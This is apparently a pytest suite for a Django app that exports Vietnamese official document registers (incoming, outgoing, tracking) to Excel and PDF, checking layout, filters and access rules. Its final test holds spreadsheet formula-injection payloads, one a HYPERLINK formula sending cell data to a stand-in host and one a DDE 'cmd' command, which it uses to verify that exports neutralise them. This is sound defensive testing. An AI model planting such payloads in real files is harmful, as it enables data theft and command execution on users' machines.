"""The registers of Phụ lục IV as Excel and PDF: what a clerk opens and prints."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from documents.exports import RegisterTooLarge, register_pdf, register_sheet, register_xlsx
from documents.models import Document, DocumentType, Register
from documents.selectors.registers import INCOMING, OUTGOING, TRACKING, RegisterFilters
from documents.services.incoming.handling import (
    Holder,
    assignment_complete,
    assignment_progress,
    assignment_redistribute,
    incoming_instruct,
    incoming_present,
)
from documents.services.incoming.registration import incoming_create_paper, incoming_register
from documents.services.registers import register_open
from interchange.models import Recipient
from tests.factories import make_org, make_unit, make_user

pytestmark = pytest.mark.django_db
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n"
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"


def arrive(office, symbol, subject, *, issuer=None, urgency=0, secrecy=0, issued_on=dt.date(2021, 2, 1)):
    return incoming_create_paper(
        actor=office["clerk"], organization=office["org"], document_type=office["cv"], symbol=symbol,
        subject=subject, issued_on=issued_on, issuer=issuer or office["vpcp"], urgency=urgency, secrecy=secrecy,
        scan=(f"{symbol.replace('/', '-')}.pdf", PDF),
    )


def registered(office, *args, **kwargs) -> Document:
    doc = arrive(office, *args, **kwargs)
    incoming_register(actor=office["clerk"], document=doc)
    return Document.objects.get(pk=doc.pk)


@pytest.fixture
def office():
    """An office with a year of work: documents registered, handled, answered, one still waiting."""
    province = make_org("UBND", name="Ủy ban nhân dân tỉnh Bắc Kạn", organ_id="000.00.00.H05")
    org = make_org("VPUBND", name="Văn phòng Ủy ban nhân dân tỉnh Bắc Kạn", organ_id="000.00.01.H05",
                   parent=province)
    vpcp = make_org("VPCP", name="Văn phòng Chính phủ", organ_id="000.00.00.G22")
    byt = make_org("BYT", name="Bộ Y tế", organ_id="000.00.00.G10")
    year = timezone.localdate().year
    for o in (org, province):
        register_open(organization=o, direction="in", year=year, name="Sổ văn bản đến")
        register_open(organization=o, direction="in", year=year, name="Sổ văn bản mật đến", is_secret=True)
        register_open(organization=o, direction="out", year=year, name="Sổ văn bản đi")
    vx = make_unit(org, "VXNV", "Phòng Văn xã - Nội vụ")
    office = {
        "org": org, "province": province, "vpcp": vpcp, "byt": byt, "vx": vx,
        "cv": DocumentType.objects.get(code="cong-van"),
        "clerk": make_user(org, ["clerk"], secret_clearance=True, full_name="Triệu Thị Hằng"),
        "leader": make_user(org, ["leader"], full_name="Hà Văn Sơn"),
        "head": make_user(org, ["unit_head"], unit=vx, full_name="Lý Văn Thắng"),
        "specialist": make_user(org, ["specialist"], unit=vx, full_name="Nông Thị Mai"),
        "outsider": make_user(province, ["clerk"], full_name="Hoàng Thị Nhung"),
    }
    # 01: assigned to the unit, handed to a specialist, half done.
    first = registered(office, "807/VPCP-KSTT", "V/v tăng cường gửi, nhận văn bản điện tử")
    incoming_present(actor=office["clerk"], document=first, leader=office["leader"])
    incoming_instruct(actor=office["leader"], document=first, text="Giao Phòng VXNV chủ trì",
                      lead=Holder(unit=vx), deadline_days=5)
    [mine] = assignment_redistribute(actor=office["head"], assignment=first.assignments.get(role="lead"),
                                     users=[office["specialist"]])
    assignment_progress(actor=office["specialist"], assignment=mine, text="Đang dự thảo công văn trả lời",
                        percent=50)
    # 02: urgent, done, answered by an outgoing công văn.
    second = registered(office, "1234/BYT-DP", "Về việc tăng cường công tác phòng, chống dịch Covid-19",
                        issuer=byt, urgency=1, issued_on=dt.date(2021, 2, 3))
    incoming_instruct(actor=office["leader"], document=second, text="Giao đồng chí Mai xử lý",
                      lead=Holder(user=office["specialist"]))
    reply = Document.objects.create(
        organization=org, direction="out", document_type=office["cv"], symbol="15/VPUBND-VXNV",
        subject="V/v triển khai phòng, chống dịch Covid-19", issued_on=dt.date(2021, 2, 5), state="dispatched",
        register=Register.objects.get(organization=org, direction="out"), register_number=15, unit=vx,
        signer_name="Hà Văn Sơn", dispatched_at=timezone.now(),
    )
    for name in ("Sở Y tế tỉnh Bắc Kạn", "UBND thành phố Bắc Kạn"):
        Recipient.objects.create(document=reply, channel=Recipient.Channel.PAPER, name=name, state=Recipient.State.SENT)
    assignment_complete(actor=office["specialist"], assignment=second.assignments.get(), result="Đã ban hành công văn",
                        reply_document=reply)
    # Not in the registers shown by default: one not registered yet, one secret.
    arrive(office, "99/VPCP-TH", "V/v chưa vào sổ")
    registered(office, "5/VPCP-M", "V/v văn bản mật", secrecy=1)
    # Another organization's register must not leak in.
    incoming_register(actor=office["outsider"], document=incoming_create_paper(
        actor=office["outsider"], organization=province, document_type=office["cv"], symbol="1/X-Y",
        subject="V/v của cơ quan khác", issued_on=None, issuer=vpcp))
    office.update(first=first, second=second, reply=reply)
    return office


def sheet(office, kind, user=None, **filters):
    filters.setdefault("organization_id", office["org"].pk)
    return register_sheet(user=user or office["clerk"], kind=kind, filters=RegisterFilters(**filters),
                          organization=office["org"])


def xlsx_rows(data: bytes) -> list[tuple]:
    ws = load_workbook(io.BytesIO(data)).active
    return [tuple("" if v is None else v for v in row) for row in ws.iter_rows(values_only=True)]


def test_incoming_register_rows_come_from_registration_and_instruction(office):
    s = sheet(office, INCOMING)
    assert [r[1] for r in s.rows] == ["01", "02"]
    first, second = s.rows
    today = f"{timezone.localdate():%d/%m/%Y}"
    assert first[:5] == [today, "01", "Văn phòng Chính phủ", "807/VPCP-KSTT", "01/02/2021"]
    assert first[5] == "Công văn\nV/v tăng cường gửi, nhận văn bản điện tử"
    assert first[6] == "Phòng Văn xã - Nội vụ (Nông Thị Mai)" and first[7] == today
    assert second[2] == "Bộ Y tế" and second[6] == "Nông Thị Mai" and "Khẩn" in second[9]
    assert (s.number_from, s.number_to) == (1, 2)


def test_tracking_register_shows_deadline_progress_and_reply(office):
    first, second = sheet(office, TRACKING).rows
    assert first[1].startswith("Công văn số 807/VPCP-KSTT ngày 01/02/2021 của Văn phòng Chính phủ")
    assert first[3] == f"{Document.objects.get(pk=office['first'].pk).due_date:%d/%m/%Y}"
    assert first[4].startswith("Đang xử lý 50% (") and "Đang dự thảo công văn trả lời" in first[4]
    assert first[5] == ""
    assert second[4].startswith("Hoàn thành ngày") and "Đã ban hành công văn" in second[4]
    assert second[5] == "15/VPUBND-VXNV ngày 05/02/2021"


def test_outgoing_register_lists_places_signer_and_archive(office):
    [row] = sheet(office, OUTGOING).rows
    assert row[:2] == ["15/VPUBND-VXNV", "05/02/2021"]
    assert row[3] == "Hà Văn Sơn" and row[4] == "Sở Y tế tỉnh Bắc Kạn\nUBND thành phố Bắc Kạn"
    assert row[5:7] == ["VT, VXNV", "2"]


def test_filters_narrow_the_register(office):
    assert [r[3] for r in sheet(office, INCOMING, issuer="bo y te").rows] == ["1234/BYT-DP"]
    assert [r[3] for r in sheet(office, INCOMING, state="processing").rows] == ["807/VPCP-KSTT"]
    assert [r[3] for r in sheet(office, INCOMING, unit_id=office["vx"].pk).rows] == ["807/VPCP-KSTT"]
    tomorrow = timezone.localdate() + dt.timedelta(days=1)
    assert sheet(office, INCOMING, date_from=tomorrow).rows == []
    secret_book = Register.objects.get(organization=office["org"], is_secret=True)
    assert [r[3] for r in sheet(office, INCOMING, register_id=secret_book.pk).rows] == ["5/VPCP-M"]


def test_a_register_shows_only_what_the_user_may_see(office):
    assert sheet(office, INCOMING, user=office["outsider"]).rows == []
    # The specialist sees the documents given to them, not the whole register.
    assert len(sheet(office, INCOMING, user=office["specialist"]).rows) == 2
    assert sheet(office, INCOMING, user=office["head"]).rows[0][3] == "807/VPCP-KSTT"


def test_too_large_a_register_is_refused_with_a_reason(office):
    with pytest.raises(RegisterTooLarge) as exc:
        register_sheet(user=office["clerk"], kind=INCOMING, organization=office["org"],
                       filters=RegisterFilters(organization_id=office["org"].pk), limit=1)
    assert "thu hẹp khoảng thời gian" in exc.value.user_message


def test_excel_has_the_heading_columns_and_values(office):
    data = register_xlsx(sheet(office, INCOMING))
    wb = load_workbook(io.BytesIO(data))
    ws = wb.active
    rows = xlsx_rows(data)
    assert rows[0][0] == "VĂN PHÒNG ỦY BAN NHÂN DÂN TỈNH BẮC KẠN"
    assert rows[1][0] == "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN"
    assert "từ số 01 đến số 02" in rows[2][0]
    assert rows[4] == ("Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu văn bản", "Ngày tháng văn bản",
                       "Tên loại và trích yếu nội dung văn bản", "Đơn vị hoặc người nhận", "Ngày chuyển", "Ký nhận",
                       "Ghi chú")
    assert rows[5] == tuple(f"({i})" for i in range(1, 11))
    assert rows[6][3] == "807/VPCP-KSTT" and rows[7][5].endswith("phòng, chống dịch Covid-19")
    assert ws.freeze_panes == "A7" and ws.print_title_rows == "$5:$6"
    assert ws["F7"].alignment.wrap_text and ws.column_dimensions["F"].width > ws.column_dimensions["B"].width * 3
    assert ws.page_setup.orientation == "landscape"


def test_excel_tracking_register_has_its_seven_columns(office):
    rows = xlsx_rows(register_xlsx(sheet(office, TRACKING)))
    assert rows[1][0] == "SỔ THEO DÕI GIẢI QUYẾT VĂN BẢN ĐẾN"
    assert rows[4][3:6] == ("Thời hạn giải quyết", "Tiến độ giải quyết", "Số, ký hiệu văn bản trả lời")
    assert len([c for c in rows[4] if c]) == 7 and rows[7][5] == "15/VPUBND-VXNV ngày 05/02/2021"


def pdf_text(data: bytes, *pages: int) -> str:
    """The text of the pages, in reading order, words joined by single spaces (cells wrap)."""
    args = ["pdftotext", "-enc", "UTF-8"]
    if pages:
        args += ["-f", str(pages[0]), "-l", str(pages[-1])]
    text = subprocess.run(args + ["-", "-"], input=data, capture_output=True, check=True).stdout.decode()
    return " ".join(text.split())


def pdf_pages(data: bytes) -> int:
    info = subprocess.run(["pdfinfo", "-"], input=data, capture_output=True, check=True).stdout.decode()
    return int(next(line.split()[-1] for line in info.splitlines() if line.startswith("Pages:")))


def test_pdf_has_the_cover_of_phu_luc_iv_then_the_table(office):
    data = register_pdf(sheet(office, INCOMING))
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / "register-incoming.pdf").write_bytes(data)
    cover = pdf_text(data, 1)
    for line in ("ỦY BAN NHÂN DÂN TỈNH BẮC KẠN", "VĂN PHÒNG ỦY BAN NHÂN DÂN TỈNH BẮC KẠN",
                 "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN", f"Năm: {timezone.localdate().year}", "Từ số 01 đến số 02"):
        assert line in cover
    table = pdf_text(data, 2)
    for heading in ("Ngày đến", "Số đến", "Tác giả", "Ngày chuyển", "Ký nhận", "Ghi chú", "(10)"):
        assert heading in table
    assert "807/VPCP-KSTT" in table and "phòng, chống dịch Covid-19" in table
    assert "Trang 1 / 1" in table and "Trang" not in cover


def test_pdf_repeats_the_header_on_every_page_and_numbers_them(office):
    big = sheet(office, INCOMING)
    big.rows = [list(big.rows[i % 2]) for i in range(120)]
    data = register_pdf(big)
    pages = pdf_pages(data)
    assert pages >= 4
    for page in range(2, pages + 1):
        text = pdf_text(data, page)
        assert "Tên loại và trích yếu" in text and "(10)" in text
        assert f"Trang {page - 1} / {pages - 1}" in text


def test_pdf_page_one_renders(office, tmp_path):
    data = register_pdf(sheet(office, TRACKING))
    (tmp_path / "r.pdf").write_bytes(data)
    ARTIFACTS.mkdir(exist_ok=True)
    for page in (1, 2):
        subprocess.run(["pdftoppm", "-png", "-r", "50", "-f", str(page), "-l", str(page), "-singlefile",
                        str(tmp_path / "r.pdf"), str(ARTIFACTS / f"register-tracking-page{page}")], check=True)
        png = (ARTIFACTS / f"register-tracking-page{page}.png").read_bytes()
        assert png.startswith(b"\x89PNG")
    assert "SỔ THEO DÕI GIẢI QUYẾT VĂN BẢN ĐẾN" in pdf_text(data, 1)


def test_pdf_cells_wrap_within_their_column():
    from reportlab.pdfbase.pdfmetrics import stringWidth

    from documents.exports.pdf import CELL_SIZE, _wrap
    from signatures.fonts import reportlab_serif

    font = reportlab_serif("regular")
    text = "Công văn\nV/v tăng cường gửi, nhận văn bản điện tử 1234/BKHĐT-KHTC-" + "X" * 60
    lines = _wrap(text, font, 60).split("\n")
    assert lines[0] == "Công văn" and len(lines) > 5
    assert all(stringWidth(line, font, CELL_SIZE) <= 60 for line in lines)
    assert "".join(lines).replace(" ", "") == text.replace("\n", "").replace(" ", "")


def test_an_empty_register_still_prints_its_cover_and_says_so(office):
    data = register_pdf(sheet(office, OUTGOING, date_from=timezone.localdate() + dt.timedelta(days=1)))
    assert "SỔ ĐĂNG KÝ VĂN BẢN ĐI" in pdf_text(data, 1)
    assert "Không có văn bản nào" in pdf_text(data, 2)


def test_text_from_another_agency_is_written_as_data_never_as_a_formula(office):
    """An issuer named "=HYPERLINK(…)" or a symbol "+cmd|…" must not become a live formula."""
    hostile_issuer = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Xem văn bản")'
    hostile_symbol = "+cmd|' /C calc'!A0"
    document = incoming_create_paper(
        actor=office["clerk"], organization=office["org"], document_type=office["cv"], symbol=hostile_symbol,
        subject="@SUM(1+1) V/v thử", issued_on=None, issuer_name=hostile_issuer)
    incoming_register(actor=office["clerk"], document=document)
    for kind in (INCOMING, TRACKING):
        ws = load_workbook(io.BytesIO(register_xlsx(sheet(office, kind)))).active
        cells = [cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], kind
        risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
        assert kind != INCOMING or any(cell.value == hostile_issuer for cell in risky)
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky), kind
